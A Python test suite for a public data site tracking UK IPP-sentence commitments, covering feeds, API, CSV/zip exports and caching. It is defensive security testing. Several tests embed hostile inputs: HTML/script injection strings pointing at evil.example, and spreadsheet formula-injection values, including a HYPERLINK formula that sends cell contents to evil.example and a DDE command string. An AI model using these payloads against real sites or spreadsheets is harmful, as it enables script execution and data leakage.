"""Feeds, the JSON API, CSV and zip exports, the sitemap and conditional requests."""

import csv
import io
import json
import re
import zipfile
from datetime import date
from decimal import Decimal
from xml.etree import ElementTree

import feedparser
import pytest
from django.utils import timezone

from commitments.editorial import record_status_change
from commitments.models import Commitment, Evidence
from commitments.opendata import shape
from commitments.opendata.dataset import _tables as dataset_tables
from commitments.opendata.dataset import data_dictionary
from commitments.public.filters import CommitmentFilter

from .factories import (
    CommitmentFactory,
    DeadlineFactory,
    EvidenceFactory,
    FigureCellFactory,
    FigureTableFactory,
    IndicatorFactory,
    IndicatorPointFactory,
    QuestionEventFactory,
    RecommendationDevelopmentFactory,
    RecommendationFactory,
    WrittenQuestionFactory,
)


def _feed(client, url):
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/atom+xml")
    parsed = feedparser.parse(response.content)
    assert not parsed.bozo, parsed.get("bozo_exception")
    return parsed


def test_site_wide_feed_carries_status_changes_and_evidence_with_sources(client, demo):
    feed = _feed(client, "/feeds/updates.atom")
    titles = [entry.title for entry in feed.entries]
    assert len(titles) == 50  # the newest fifty of 30 status changes and 24 pieces of evidence
    assert any("status recorded as" in title for title in titles)
    assert any("new evidence from" in title for title in titles)
    gps_feed = _feed(client, "/commitments/em-gps-domestic-abuse/feed.atom")
    gps = next(e for e in gps_feed.entries if "new evidence from House of Lords question HL7122" in e.title)
    assert "3,500 offenders" in gps.summary
    assert "questions-statements.parliament.uk/written-questions/detail/2022-03-21/HL7122" in gps.summary
    assert gps.link.endswith("/commitments/em-gps-domestic-abuse/#evidence-" + gps.id.rsplit("-", 1)[1])


def test_theme_and_commitment_feeds_carry_only_their_own_entries(client, demo, settings):
    settings.SITE_URL = "https://ipp.example.org"
    theme = _feed(client, "/themes/electronic-monitoring/feed.atom")
    assert theme.entries and all("/commitments/em-" in entry.link for entry in theme.entries)
    one = _feed(client, "/commitments/ipp-delivery-plans/feed.atom")
    assert {entry.link.split("#")[0] for entry in one.entries} == {
        "https://ipp.example.org/commitments/ipp-delivery-plans/"
    }
    assert client.get("/commitments/no-such/feed.atom").status_code == 404


def test_a_new_status_change_appears_in_the_feed_dated_when_recorded(client, demo):
    commitment = Commitment.objects.get(slug="ipp-data-dashboard")
    record_status_change(
        commitment, to="delivered", reason="Dashboard published", effective_on=date(2025, 1, 1)
    )
    newest = _feed(client, "/feeds/updates.atom").entries[0]
    assert newest.title == "IPP dataset and data dashboard: status changed from in progress to delivered"
    assert "Dashboard published" in newest.summary


def test_pages_link_their_feeds(client, demo):
    for url in ["/", "/themes/electronic-monitoring/", "/commitments/ipp-delivery-plans/"]:
        assert 'type="application/atom+xml"' in client.get(url).content.decode(), url


def _csv(client, url):
    response = client.get(url)
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.DictReader(io.StringIO(body.decode())))


def test_commitments_csv_has_the_same_rows_as_the_list_filter(client, demo):
    rows = _csv(client, "/exports/commitments.csv?theme=electronic-monitoring&status=in_progress")
    expected = CommitmentFilter(
        {"theme": "electronic-monitoring", "status": "in_progress"}, queryset=Commitment.objects.published()
    ).qs
    assert sorted(row["slug"] for row in rows) == sorted(expected.values_list("slug", flat=True))
    assert len(rows) == 3
    assert all(row["status"] == "in_progress" for row in rows)


def test_questions_csv_round_trips_and_rejects_bad_filters(client, demo):
    rows = _csv(client, "/exports/questions.csv?house=Lords")
    assert rows and {row["house"] for row in rows} == {"Lords"}
    assert any(row["uin"] == "HL7122" and row["date_answered"] == "2022-04-27" for row in rows)
    bad = client.get("/exports/questions.csv?answered_from=yesterday")
    assert bad.status_code == 400 and b"answered_from" in bad.content


def test_whole_dataset_zip_keeps_suppressed_cells_empty_never_zero(client, demo):
    response = client.get("/exports/ipp-tracker-data.zip")
    assert response.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    assert {
        "commitments.csv",
        "status_changes.csv",
        "evidence.csv",
        "questions.csv",
        "question_events.csv",
        "figure_cells.csv",
        "data.json",
        "DATA-DICTIONARY.md",
    } <= set(archive.namelist())
    cells = list(csv.DictReader(io.StringIO(archive.read("figure_cells.csv").decode())))
    suppressed = [c for c in cells if c["kind"] == "suppressed"]
    assert len(suppressed) == 4 and all(c["value"] == "" and c["published"] == "*" for c in suppressed)
    data = json.loads(archive.read("data.json"))
    assert len(data["commitments"]) == 30
    assert all(c["value"] is None for c in data["figure_cells"] if c["kind"] in ("suppressed", "nil"))


def test_the_data_dictionary_explains_every_column_of_every_file_in_the_zip(client, demo):
    archive = zipfile.ZipFile(
        io.BytesIO(b"".join(client.get("/exports/ipp-tracker-data.zip").streaming_content))
    )
    dictionary = archive.read("DATA-DICTIONARY.md").decode()
    sections = dict(part.split("\n", 1) for part in dictionary.split("\n## ")[1:])
    for name in (name for name in archive.namelist() if name.endswith(".csv")):
        header = next(csv.reader(io.StringIO(archive.read(name).decode())))
        assert sorted(_dictionary_entries(sections[name])) == sorted(header), name


def _dictionary_entries(section: str) -> list[str]:
    """The column names a section's entries start with ("row, column: positions · kind: …"): a name
    that is only mentioned in another's text is not an entry."""
    names = []
    for entry in section.replace("\n", " ").split(" · "):
        head = re.split(r"[:(]", entry, maxsplit=1)[0].split(". ")[-1]
        names += [name.strip() for name in head.split(",")]
    return names


def _zip_commitments(response) -> list[dict]:
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    return list(csv.DictReader(io.StringIO(archive.read("commitments.csv").decode())))


def test_whole_exports_are_built_once_per_data_version(client, demo, django_assert_num_queries):
    first = client.get("/exports/ipp-tracker-data.zip")
    first_csv = client.get("/exports/questions.csv")
    with django_assert_num_queries(0):
        again = client.get("/exports/ipp-tracker-data.zip")
        again_csv = client.get("/exports/questions.csv")
    assert again.status_code == 200 and b"".join(again.streaming_content) == b"".join(first.streaming_content)
    assert b"".join(again_csv.streaming_content) == b"".join(first_csv.streaming_content)
    commitment = Commitment.objects.get(slug="em-gps-domestic-abuse")
    commitment.title = "A title changed after the first download"
    commitment.save()
    titles = {row["title"] for row in _zip_commitments(client.get("/exports/ipp-tracker-data.zip"))}
    assert "A title changed after the first download" in titles
    assert len(list(exports_dir_files())) == 4  # the zip and three CSVs: the old files are gone


def exports_dir_files():
    from django.conf import settings

    return (path for path in settings.EXPORTS_DIR.iterdir() if not path.name.startswith("."))


def test_filtered_exports_are_limited_per_client_and_whole_ones_are_not(client, demo, settings):
    settings.EXPORT_THROTTLE_RATE = "2/min"
    address = {"REMOTE_ADDR": "203.0.113.77"}
    for _ in range(2):
        assert client.get("/exports/questions.csv?house=Lords", **address).status_code == 200
    limited = client.get("/exports/questions.csv?house=Commons", **address)
    assert limited.status_code == 429 and int(limited["Retry-After"]) > 0
    assert b"/exports/questions.csv" in limited.content
    assert client.get("/exports/questions.csv?house=Lords", REMOTE_ADDR="203.0.113.78").status_code == 200
    for _ in range(3):
        assert client.get("/exports/questions.csv", **address).status_code == 200
        assert client.get("/exports/commitments.csv?theme=", **address).status_code == 200


IMAGE = '<img src="https://evil.example/pixel.png" onerror="alert(1)">'
ATOM = "{http://www.w3.org/2005/Atom}"


def test_feed_summaries_are_plain_text_so_hostile_html_loads_and_runs_nothing(client, db):
    commitment = CommitmentFactory(title=f"Panels {IMAGE}")
    EvidenceFactory(
        commitment=commitment,
        excerpt=f"IPP Delivery Plans {IMAGE}",
        state=Evidence.State.CONFIRMED,
        reviewed_at=timezone.now(),
    )
    record_status_change(
        commitment,
        to="delayed",
        reason="<script>alert(1)</script><iframe src=//evil.example>",
        effective_on=date(2025, 1, 1),
    )
    for url in [
        "/feeds/updates.atom",
        f"/themes/{commitment.theme.slug}/feed.atom",
        f"/commitments/{commitment.slug}/feed.atom",
    ]:
        root = ElementTree.fromstring(client.get(url).content)
        elements = list(root.iter())
        # Nothing but Atom's own elements, and no attribute that runs or loads anything.
        assert all(element.tag.startswith(ATOM) for element in elements), url
        assert not [name for element in elements for name in element.attrib if name.lower().startswith("on")]
        summaries = root.findall(f"{ATOM}entry/{ATOM}summary")
        assert len(summaries) == 2
        # Text constructs: a feed reader shows the markup as characters, never as HTML.
        for element in elements:
            if element.tag in {f"{ATOM}title", f"{ATOM}subtitle", f"{ATOM}summary", f"{ATOM}content"}:
                assert element.get("type", "text") == "text", (url, element.tag)
        assert any(IMAGE in summary.text for summary in summaries)


FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"IPP")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile_cells(db):
    """Editors' and Parliament's text, each starting the way a spreadsheet formula does."""
    commitment = CommitmentFactory(title=FORMULA, owner="@SUM(1+1)", summary="+44 cmd|' /C calc'!A0")
    question = WrittenQuestionFactory(
        uin="-3",
        heading="=1+1",
        asking_member="@evil",
        answering_member="+evil",
        answering_body="\t=1+1",
    )
    EvidenceFactory(
        commitment=commitment,
        question=question,
        excerpt="\r=1+1",
        state=Evidence.State.CONFIRMED,
        reviewed_at=timezone.now(),
    )
    QuestionEventFactory(question=question)
    record_status_change(commitment, to="delayed", reason="-1+2", effective_on=date(2025, 1, 1))
    FigureCellFactory(
        row__table__question=question,
        row__label="=row",
        column__label="+column",
        value=Decimal("-3"),
        published="-3",
    )
    recommendation = RecommendationFactory(title="=1+1", made_by="@evil", response_text="-2+3")
    recommendation.commitments.add(commitment)
    RecommendationDevelopmentFactory(recommendation=recommendation, quote="+1", said_by="=evil")
    indicator = IndicatorFactory(name="=1+1", counts="@evil", commitments=[commitment])
    IndicatorPointFactory(indicator=indicator, value=Decimal("-3"), source_title="=evil", note="-1")
    DeadlineFactory(commitment=commitment, promise="=1+1", said_by="+evil", note="@x")
    return commitment


def _zip_csvs(client) -> dict[str, list[dict]]:
    response = client.get("/exports/ipp-tracker-data.zip")
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    return {
        name.removesuffix(".csv"): list(csv.DictReader(io.StringIO(archive.read(name).decode())))
        for name in archive.namelist()
        if name.endswith(".csv")
    } | {"data": json.loads(archive.read("data.json"))}


def test_no_csv_cell_starts_like_a_formula_but_our_own_numbers_stay_numbers(client, hostile_cells):
    tables = _zip_csvs(client)
    data = tables.pop("data")
    tables["commitments_export"] = _csv(client, "/exports/commitments.csv")
    tables["questions_export"] = _csv(client, "/exports/questions.csv")
    tables["recommendations_export"] = _csv(client, "/exports/recommendations.csv")
    tables["indicator_points_export"] = _csv(client, "/exports/indicator-points.csv")
    tables["deadlines_export"] = _csv(client, "/exports/deadlines.csv")
    assert len(tables) == 16 and all(tables.values())
    for name, rows in tables.items():
        for row in rows:
            for column, cell in row.items():
                if column != "value":  # figure values: a number from our own numeric field
                    assert not cell.startswith(FORMULA_STARTS), (name, column, cell)
    assert tables["commitments"][0]["title"] == tables["commitments_export"][0]["title"] == "'" + FORMULA
    assert tables["questions_export"][0]["uin"] == "'-3"  # Parliament's text, not our number
    assert tables["evidence"][0]["excerpt"] == "'\r=1+1"
    assert tables["recommendations_export"][0]["title"] == "'=1+1"
    assert tables["recommendation_developments"][0]["quote"] == "'+1"
    assert tables["indicators"][0]["name"] == "'=1+1"
    assert tables["indicator_points_export"][0]["source_title"] == "'=evil"
    assert tables["deadlines_export"][0]["promise"] == tables["deadlines"][0]["promise"] == "'=1+1"
    assert Decimal(tables["indicator_points"][0]["value"]) == -3
    [cell] = tables["figure_cells"]
    assert (cell["row_label"], cell["column_label"], cell["published"]) == ("'=row", "'+column", "'-3")
    assert Decimal(cell["value"]) == -3
    # The JSON in the same zip is not a spreadsheet: it keeps the text as stored.
    assert data["commitments"][0]["title"] == FORMULA


def test_the_commitments_csv_and_zip_say_when_each_was_last_evidenced_and_whether_that_is_a_lower_bound(
    client, demo
):
    exported = {row["slug"]: row for row in _csv(client, "/exports/commitments.csv")}
    tables = _zip_csvs(client)
    zipped = {row["slug"]: row for row in tables["commitments"]}
    as_json = {item["slug"]: item for item in tables["data"]["commitments"]}
    commitments = list(Commitment.objects.published().with_evidence_recency())
    assert len(exported) == len(zipped) == len(commitments) > 10
    for commitment in commitments:
        expected = commitment.latest_evidence_on.isoformat() if commitment.latest_evidence_on else ""
        api = client.get(f"/api/v1/commitments/{commitment.slug}/").json()
        for row in (exported[commitment.slug], zipped[commitment.slug]):
            assert row["latest_evidence_on"] == expected
            assert row["latest_evidence_is_lower_bound"] == str(api["latest_evidence_is_lower_bound"])
        assert as_json[commitment.slug]["latest_evidence_on"] == (expected or None)
        assert (
            as_json[commitment.slug]["latest_evidence_is_lower_bound"]
            is api["latest_evidence_is_lower_bound"]
        )
    # Commons 15167 is known only to have been answered after 15 November 2024; an exact date is not.
    assert exported["ipp-delivery-plans"]["latest_evidence_on"] == "2024-11-15"
    assert exported["ipp-delivery-plans"]["latest_evidence_is_lower_bound"] == "True"
    exact = exported["em-gps-domestic-abuse"]
    assert exact["latest_evidence_on"] and exact["latest_evidence_is_lower_bound"] == "False"
    assert any(row["latest_evidence_on"] == "" for row in exported.values())  # never evidenced


def test_api_lists_and_filters_like_the_pages(client, demo):
    body = client.get("/api/v1/commitments/?theme=electronic-monitoring&status=in_progress").json()
    assert body["count"] == 3
    assert {item["theme"] for item in body["results"]} == {"electronic-monitoring"}


def test_api_commitment_detail_has_status_history_and_confirmed_evidence(client, demo):
    body = client.get("/api/v1/commitments/em-gps-domestic-abuse/").json()
    assert [change["to_status"] for change in body["status_history"]] == ["delivered"]
    assert body["evidence"][0]["question"]["uin"] == "HL7122"
    assert body["evidence"][0]["excerpt"].startswith("IPP releases will also be eligible")


def test_api_figure_cells_keep_suppressed_and_nil_without_values(client, demo):
    table = client.get("/api/v1/figure-tables/hl7122-progression-panels-by-region/").json()
    cells = [cell for row in table["rows"] for cell in row["cells"]]
    assert sum(cell["kind"] == "suppressed" for cell in cells) == 4
    assert all(cell["value"] is None for cell in cells if cell["kind"] != "number")
    assert table["rows"][-1]["cells"][-1]["value"] == 13988


@pytest.mark.parametrize(
    ("url", "parameter"),
    [
        ("/api/v1/commitments/?status=abandoned", "status"),
        ("/api/v1/commitments/?page=0", "page"),
        ("/api/v1/questions/?answered_from=soon", "answered_from"),
    ],
)
def test_api_bad_input_is_a_400_naming_the_parameter(client, demo, url, parameter):
    response = client.get(url)
    assert response.status_code == 400 and parameter in response.json()


@pytest.mark.parametrize(
    "url",
    [
        "/api/v1/commitments/",
        "/api/v1/themes/",
        "/api/v1/action-plans/",
        "/api/v1/questions/",
        "/api/v1/figure-tables/",
    ],
)
@pytest.mark.parametrize(
    "page_number",
    ["%C2%B2", "%E2%91%A4", "%D9%A3", "9" * 5000],
    ids=["superscript-two", "circled-five", "arabic-indic-three", "5000-nines"],
)
def test_api_page_numbers_that_are_not_ascii_digits_are_a_400_never_an_error(client, db, url, page_number):
    """Superscript two, circled five and Arabic-Indic three all pass str.isdigit(); so do 5,000 nines,
    more than int() will read."""
    CommitmentFactory()
    FigureTableFactory()
    response = client.get(f"{url}?page={page_number}")
    assert response.status_code == 400 and "page" in response.json()


def test_api_unknown_ids_are_json_404s(client, demo):
    for url in ["/api/v1/commitments/nope/", "/api/v1/questions/999999/", "/api/v1/themes/nope/"]:
        response = client.get(url)
        assert response.status_code == 404 and "detail" in response.json()


def test_repeated_conditional_request_is_not_modified_until_the_data_changes(client, demo):
    for url in ["/feeds/updates.atom", "/api/v1/commitments/", "/commitments/ipp-delivery-plans/"]:
        first = client.get(url)
        assert first["ETag"] and first["Last-Modified"]
        again = client.get(url, HTTP_IF_NONE_MATCH=first["ETag"])
        assert again.status_code == 304 and again.content == b""
    etag = client.get("/api/v1/commitments/")["ETag"]
    record_status_change(
        Commitment.objects.get(slug="ipp-data-dashboard"),
        to="delivered",
        reason="Done",
        effective_on=date(2025, 1, 1),
    )
    assert client.get("/api/v1/commitments/", HTTP_IF_NONE_MATCH=etag).status_code == 200


def test_not_modified_answers_without_touching_the_database(client, demo, django_assert_num_queries):
    etag = client.get("/api/v1/questions/")["ETag"]
    with django_assert_num_queries(0):
        assert client.get("/api/v1/questions/", HTTP_IF_NONE_MATCH=etag).status_code == 304


def test_sitemap_lists_public_pages_and_robots_points_to_it(client, demo, settings):
    settings.SITE_URL = "https://ipp.example.org"
    index = client.get("/sitemap.xml").content.decode()
    assert "/sitemap-commitments.xml" in index and "/sitemap-questions.xml" in index
    assert "/commitments/ipp-delivery-plans/" in client.get("/sitemap-commitments.xml").content.decode()
    recommendations = client.get("/sitemap-recommendations.xml").content.decode()
    assert "/recommendations/jsc-2022-rec8-licence-qualifying-period/" in recommendations
    assert (
        "/figures/hl7122-progression-panels-by-region/" in client.get("/sitemap-figures.xml").content.decode()
    )
    robots = client.get("/robots.txt").content.decode()
    assert "Disallow: /admin/" in robots and "Sitemap: https://ipp.example.org/sitemap.xml" in robots


def test_a_host_headers_port_is_never_repeated_in_feed_sitemap_or_robots_links(client, demo, settings):
    """Links others follow are built from SITE_URL: a client's `Host: testserver:8443` (accepted,
    since ALLOWED_HOSTS ignores the port) must not reach a feed reader or a crawler."""
    settings.SITE_URL = "https://ipp.example.org"
    host = {"HTTP_HOST": "testserver:8443"}
    pages = {
        url: client.get(url, **host).content.decode()
        for url in [
            "/feeds/updates.atom",
            "/themes/electronic-monitoring/feed.atom",
            "/commitments/ipp-delivery-plans/feed.atom",
            "/sitemap.xml",
            "/sitemap-commitments.xml",
            "/robots.txt",
        ]
    }
    for url, body in pages.items():
        # ":8443", not "8443": a timestamp's microseconds may hold those digits (seen once in CI).
        assert ":8443" not in body and "testserver" not in body, url
    feed = feedparser.parse(pages["/feeds/updates.atom"])
    assert feed.feed.link == "https://ipp.example.org/"
    assert all(entry.link.startswith("https://ipp.example.org/commitments/") for entry in feed.entries)
    assert "<loc>https://ipp.example.org/sitemap-commitments.xml</loc>" in pages["/sitemap.xml"]
    assert (
        "<loc>https://ipp.example.org/commitments/ipp-delivery-plans/</loc>"
        in pages["/sitemap-commitments.xml"]
    )
    assert "Sitemap: https://ipp.example.org/sitemap.xml" in pages["/robots.txt"]


@pytest.mark.parametrize(
    "url",
    [
        "/api/v1/commitments/%00/",
        "/api/v1/themes/a%20b/",
        "/api/v1/questions/%00/",
        "/api/v1/figure-tables/x%00y/",
    ],
)
def test_impossible_ids_are_json_404s_not_errors(client, demo, url):
    response = client.get(url)
    assert response.status_code == 404 and response.json() == {"detail": "No such item."}


def test_throttle_ignores_a_forged_forwarded_for_when_not_behind_a_proxy(client, demo, settings):
    from rest_framework.settings import api_settings

    assert api_settings.NUM_PROXIES == 0


def test_editors_with_a_session_get_no_etag_and_no_304(client, demo, superuser):
    client.force_login(superuser)
    response = client.get("/api/v1/themes/")
    assert not response.has_header("ETag")
    assert client.get("/api/v1/themes/", HTTP_IF_NONE_MATCH='"anything"').status_code == 200


@pytest.mark.parametrize("url", ["/about/", "/subscribe/", "/healthz", "/admin/login/"])
def test_pages_that_are_not_public_data_get_no_etag(db, client, url):
    response = client.get(url)
    assert response.status_code == 200
    assert not response.has_header("ETag")
    assert client.get(url, HTTP_IF_NONE_MATCH='"anything"').status_code == 200


def test_the_commitments_csv_says_where_each_status_stands_and_what_it_rests_on(client, demo, exports_dir):
    rows = {row["slug"]: row for row in _csv(client, "/exports/commitments.csv")}
    assert len(rows) == Commitment.objects.published().count()
    for slug, row in rows.items():
        latest = Commitment.objects.get(slug=slug).status_changes.latest()
        assert row["status_since"] == latest.effective_on.isoformat(), slug
        assert row["status_reason"] == latest.reason, slug
        assert row["status_rests_on_basis"] in {"official", "secondary", "secondary_unexplained", "nothing"}
    official = [row for row in rows.values() if row["status_rests_on_basis"] == "official"]
    assert official and all(
        any(host in row["status_rests_on"] for host in ("parliament.uk", "gov.uk", "legislation.gov.uk"))
        for row in official
    )


def test_each_public_table_is_described_once_for_its_csv_its_api_and_its_dictionary(db, client):
    """commitments, status changes, evidence, questions and their events, series, their points and
    deadlines: shape.py gives the CSV header, the API's fields and help texts, and the data
    dictionary's section alike."""
    commitment = CommitmentFactory()
    question = WrittenQuestionFactory(is_about_ipp=True)
    QuestionEventFactory(question=question)
    EvidenceFactory(commitment=commitment, question=question, state="confirmed")
    record_status_change(
        commitment, to="in_progress", reason="Started", effective_on=date(2024, 6, 1), question=question
    )

    detail = client.get(f"/api/v1/commitments/{commitment.slug}/").json()
    assert list(detail)[: len(shape.COMMITMENTS.api_fields)] == shape.COMMITMENTS.api_fields
    assert list(detail["status_history"][0]) == shape.STATUS_CHANGES.api_fields
    assert list(detail["evidence"][0]) == shape.EVIDENCE.api_fields
    answer = client.get(f"/api/v1/questions/{question.pk}/").json()
    assert list(answer)[: len(shape.QUESTIONS.api_fields)] == shape.QUESTIONS.api_fields
    assert list(answer["events"][0]) == shape.QUESTION_EVENTS.api_fields
    schema = client.get("/api/v1/schema/", HTTP_ACCEPT="application/vnd.oai.openapi+json").json()
    source_kind = schema["components"]["schemas"]["Evidence"]["properties"]["source_kind"]
    assert source_kind["description"] == shape.EVIDENCE.help_text("source_kind")

    tables = dataset_tables()
    dictionary = data_dictionary()
    for table in (*shape.DESCRIBED, *shape.DESCRIBED_NUMBERS):
        assert tables[table.name][0] == table.header, table.name
        assert f"{table.dictionary()}\n" in dictionary, table.name
    assert "<!--" not in dictionary
